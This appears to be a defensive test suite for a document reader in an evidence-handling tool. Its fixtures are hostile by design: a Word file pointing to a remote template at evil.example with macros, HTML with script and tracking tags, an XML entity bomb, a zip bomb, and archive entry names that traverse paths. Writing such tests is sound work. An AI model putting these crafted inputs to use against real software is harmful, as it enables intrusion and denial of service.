/** Text of files: the same words whatever they are wrapped in, and from a hostile file a reason instead of them. */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import PdfDocument from 'pdfkit';
import { afterAll, describe, expect, test } from 'vitest';
import { openCase, openDesk, samplesFolder, writeFiles } from '../../../../tests/support/desk.ts';
import { detectMediaType } from '../../store/media-type.ts';
import { endIdleReaders, inReader, type ReaderResult } from '../readers/reader-host.ts';
import type { TextAnswer } from './read-text.ts';
import { documents, sentence, wordParts, words, zipOf } from './testing/documents.ts';

const signal = new AbortController().signal;

afterAll(endIdleReaders);

async function read(name: string, bytes: Uint8Array, seconds = 30): Promise<ReaderResult<TextAnswer>> {
  const { mediaType } = await detectMediaType(bytes.subarray(0, 4096), name, bytes.length);
  return inReader('text', { bytes: bytes.slice(), mediaType, name, declared: {} }, { signal, seconds });
}

async function textOf(name: string, bytes: Uint8Array): Promise<TextAnswer> {
  const result = await read(name, bytes);
  if (!result.ok) throw new Error(result.failure.message);
  return result.value;
}

const bytesOf = (text: string) => new Uint8Array(Buffer.from(text, 'utf8'));
const flat = (text: string): string => text.replace(/\s+/g, ' ').trim();

describe('the same words', () => {
  test.each(Object.keys(documents))('are read from %s', async (name) => {
    const { pages } = await textOf(name, await documents[name]!());
    const own = pages.filter(({ label }) => label !== 'Addresses');
    expect(flat(own.map(({ text }) => text).join('\n'))).toBe(words.join(' '));
  });
});

test('an office document that is cut off says so in words a person has', async () => {
  const bytes = new Uint8Array(Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(200)]));
  const result = await read('ledger.xlsx', bytes);
  expect(result).toMatchObject({
    ok: false,
    failure: {
      message:
        'The document cannot be read: it is cut off, or is another kind of file under this name. Its bytes are kept untouched.',
    },
  });
});

describe('a saved page', () => {
  test('gives its text and where it leads; nothing of it runs or loads', async () => {
    const { pages } = await textOf(
      'shop.html',
      bytesOf(
        '<html><body onload="x()"><script>alert(1)</script><p>Pay&nbsp;now<a href="http://pay.example/x?y=1&amp;z">here</a><img src="http://track.example/p.gif"><form action="//drop.example/post"></form><table><tr><td>a</td><td>b</td></tr></table>',
      ),
    );
    expect(pages.map(({ label, text }) => [label, text])).toEqual([
      ['', 'Pay\u00a0nowhere\na\tb'],
      [
        'Addresses',
        '<a> http://pay.example/x?y=1&z\n<img> http://track.example/p.gif\n<form> //drop.example/post',
      ],
    ]);
  });

  test('of a million open elements ends', async () => {
    expect((await read('deep.html', bytesOf(`<html>${'<div><b>'.repeat(300_000)}x`))).ok).toBe(true);
  });
});

describe('an office document', () => {
  test('shows what was deleted from it, where it leads and that it holds macros', async () => {
    const bytes = await zipOf({
      ...wordParts(
        `<w:p><w:r><w:t>${sentence}</w:t></w:r><w:del><w:r><w:delText>call Ravi</w:delText></w:r></w:del></w:p>`,
      ),
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Type="x/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/></Relationships>',
      'word/vbaProject.bin': 'x',
      'docProps/core.xml': '<cp:coreProperties><dc:creator>Ada</dc:creator></cp:coreProperties>',
    });
    const answer = await textOf('letter.docx', bytes);
    expect(answer.pages.map(({ label, text }) => [label, text.trim()])).toEqual([
      ['', sentence],
      ['Deleted text', 'call Ravi'],
      ['Addresses', 'attachedTemplate http://evil.example/t.dotm'],
    ]);
    expect(answer.findings).toMatchObject([{ code: 'macros' }]);
    expect(answer.metadata).toEqual([
      { name: 'Document properties', entries: [{ name: 'creator', value: 'Ada' }] },
    ]);
  });

  test('whose XML expands entities or nests without end is refused or read without them', async () => {
    const bomb = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>';
    const answer = await textOf('a.docx', await zipOf(wordParts(`${bomb}<w:p><w:t>x&b;y</w:t></w:p>`)));
    expect(answer.pages[0]?.text.trim()).toBe('x&b;y');
    const deep = await read('b.docx', await zipOf(wordParts('<w:p>'.repeat(100_000))));
    expect(deep).toMatchObject({ ok: false, failure: { code: 'reader-refused' } });
  });

  test('that unpacks beyond all measure is refused before it is unpacked', async () => {
    const bytes = await zipOf(wordParts(`<w:p><w:t>${' '.repeat(200 << 20)}</w:t></w:p>`));
    expect(bytes.length).toBeLessThan(1 << 20);
    expect(await read('bomb.docx', bytes)).toMatchObject({
      ok: false,
      failure: { code: 'reader-refused', message: expect.stringContaining('bomb') },
    });
  });
});

describe('what lies in a file', () => {
  test('is taken out of archives and documents to be evidence of its own, and is read in turn; nothing twice', async () => {
    const picture = 'x'.repeat(5_000);
    const inner = await zipOf({ 'deep/note.txt': 'inner note' });
    const archive = await zipOf({
      'chat/_chat.txt': '31/01/24, 09:00 - Ada: one\n31/01/24, 09:01 - Bob: two',
      'chat/letter.docx': Buffer.from(
        await zipOf({ ...wordParts('<w:p><w:t>hi</w:t></w:p>'), 'word/media/image1.png': picture }),
      ),
      'inner.zip': Buffer.from(inner),
    });
    const { engine, base } = await openDesk();
    const caseId = await openCase(engine);
    await engine.run('evidence.intake', { caseId, paths: [writeFiles(base, { 'export.zip': archive })] });
    await engine.run('evidence.read', { caseId });
    const list = () => engine.call('evidence.list', { caseId, sort: 'name' });
    const names = (await list()).rows.map(({ name }) => name);
    expect(names).toEqual(['_chat.txt', 'export.zip', 'image1.png', 'inner.zip', 'letter.docx', 'note.txt']);
    const chat = (await list()).rows[0]!;
    const { rows } = await engine.call('text.messages', { evidenceId: chat.id });
    expect(rows.map(({ sentLocal }) => sentLocal)).toEqual(['2024-01-31T09:00:00', '2024-01-31T09:01:00']);
    await engine.run('evidence.read', { caseId, again: true });
    expect((await list()).total).toBe(6);
  });

  test('is taken out of an archive whatever the names in it say: leading out of it, absolute, standing twice', async () => {
    const harmless = { 'aa/b/out.txt': 'one', 'a/abs.txt': 'two', 'name1.txt': 'three', 'name2.txt': 'four' };
    const bytes = Buffer.from(await zipOf(harmless)).toString('latin1');
    const hostile = bytes
      .replaceAll('aa/b/out', '../b/out')
      .replaceAll('a/abs', '//abs')
      .replaceAll('name2', 'name1');
    const { embedded, findings } = await textOf('x.zip', new Uint8Array(Buffer.from(hostile, 'latin1')));
    expect(findings).toEqual([]);
    expect(embedded.map(({ name, bytes: of }) => [name, Buffer.from(of).toString()])).toEqual([
      ['out.txt', 'one'],
      ['abs.txt', 'two'],
      ['name1.txt', 'three'],
      ['name1.txt', 'four'],
    ]);
  });

  test('is taken out of a PDF that carries it', async () => {
    const document = new PdfDocument();
    const pieces: Buffer[] = [];
    document.on('data', (piece: Buffer) => pieces.push(piece));
    document.file(Buffer.from('account;amount'), { name: 'list.csv' });
    document.text('see the attached list');
    document.end();
    await new Promise((resolve) => document.on('end', resolve));
    const { embedded } = await textOf('a.pdf', new Uint8Array(Buffer.concat(pieces)));
    expect(embedded.map(({ name, bytes }) => [name, Buffer.from(bytes).toString()])).toEqual([
      ['list.csv', 'account;amount'],
    ]);
  });

  test('of an archive that holds itself ends', async () => {
    const folder = samplesFolder('05-hostile/tika-archives');
    const droste =
      folder &&
      readdirSync(folder, { recursive: true, encoding: 'utf8' }).find((name) => /droste\.zip$/.test(name));
    if (!folder || !droste) return;
    const { engine, base } = await openDesk();
    const caseId = await openCase(engine);
    const bytes = new Uint8Array(readFileSync(join(folder, droste)));
    await engine.run('evidence.intake', { caseId, paths: [writeFiles(base, { 'droste.zip': bytes })] });
    await engine.run('evidence.read', { caseId });
    expect((await engine.call('evidence.list', { caseId })).total).toBeLessThan(20);
    const { rows } = await engine.call('reading.list', { caseId, findings: 'warning' });
    expect(rows.flatMap(({ findings }) => findings.map(({ code }) => code))).toContain('too-deep');
  });
});

describe('text', () => {
  test('in an encoding nothing names is read, and said to be assumed', async () => {
    const { encoding, assumed, pages } = await textOf('a.txt', Uint8Array.of(0x4a, 0x6f, 0x73, 0xe9));
    expect([encoding, pages[0]?.text]).toEqual(['windows-1252', 'José']);
    expect(assumed).toEqual([expect.stringContaining('assumed')]);
  });

  test('longer than a page goes on on the next, whole and in order', async () => {
    const lines = Array.from({ length: 9_000 }, (_one, index) => `line ${index} 🤓`).join('\n');
    const { pages } = await textOf('long.txt', bytesOf(lines));
    expect(pages.length).toBeGreaterThan(5);
    expect(pages.map(({ text }) => text).join('')).toBe(lines);
  });

  test('of JSON that would become far more than it is, is read as the text it is, and said so', async () => {
    const { format, pages, findings } = await textOf('x.json', bytesOf(`[${'{},'.repeat(6_000_000)}0]`));
    expect([format, pages.length > 100]).toEqual(['JSON', true]);
    expect(findings).toContainEqual(expect.objectContaining({ code: 'json-not-looked-into' }));
  });

  test('that is none says why', async () => {
    const { pages, outcome } = await textOf('x.bin', Uint8Array.of(0, 1, 2, 0, 255, 0, 0, 3, 9, 0));
    expect(pages).toEqual([]);
    expect(outcome).not.toBe('');
  });
});

describe('whatever comes', () => {
  /** Read, or refused with a reason: no hang, no defect. */
  const harmless = (result: ReaderResult<TextAnswer>): boolean =>
    result.ok || result.failure.code === 'reader-refused';

  test('any bytes under any name', async () => {
    const names = fc.constantFrom(
      'a.txt',
      'a.pdf',
      'a.docx',
      'a.html',
      'a.rtf',
      'a.doc',
      'a.mht',
      'a.json',
      'a.jpg',
    );
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 400 }), names, async (bytes, name) =>
        harmless(await read(name, bytes)),
      ),
      { numRuns: 120 },
    );
  });

  test('every format with bytes of it changed, left out or doubled', async () => {
    const originals = await Promise.all(
      Object.entries(documents).map(async ([name, make]) => [name, await make()] as const),
    );
    const change = fc.record({
      at: fc.double({ min: 0, max: 0.999, noNaN: true }),
      length: fc.nat(40),
      bytes: fc.uint8Array({ maxLength: 40 }),
    });
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...originals),
        fc.array(change, { minLength: 1, maxLength: 6 }),
        async ([name, original], changes) => {
          let bytes = Buffer.from(original);
          for (const { at, length, bytes: put } of changes) {
            const from = Math.floor(at * bytes.length);
            bytes = Buffer.concat([bytes.subarray(0, from), put, bytes.subarray(from + length)]);
          }
          return bytes.length === 0 || harmless(await read(name, new Uint8Array(bytes)));
        },
      ),
      { numRuns: 150 },
    );
  });

  test.each(['05-hostile', '06-media', '07-chats-web'])('every real sample of %s', async (part) => {
    const folder = samplesFolder(part);
    if (folder === null) return;
    const wrong: string[] = [];
    for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' })) {
      const path = join(folder, name);
      const facts = statSync(path, { throwIfNoEntry: false });
      if (!facts?.isFile() || facts.size === 0) continue;
      const result = await read(name, new Uint8Array(readFileSync(path)), 60);
      const told =
        result.ok &&
        (result.value.pages.length > 0 ||
          result.value.outcome !== '' ||
          result.value.format.startsWith('image/'));
      if (!harmless(result) || (result.ok && !told))
        wrong.push(`${name}: ${JSON.stringify(result).slice(0, 200)}`);
    }
    expect(wrong).toEqual([]);
  });
});
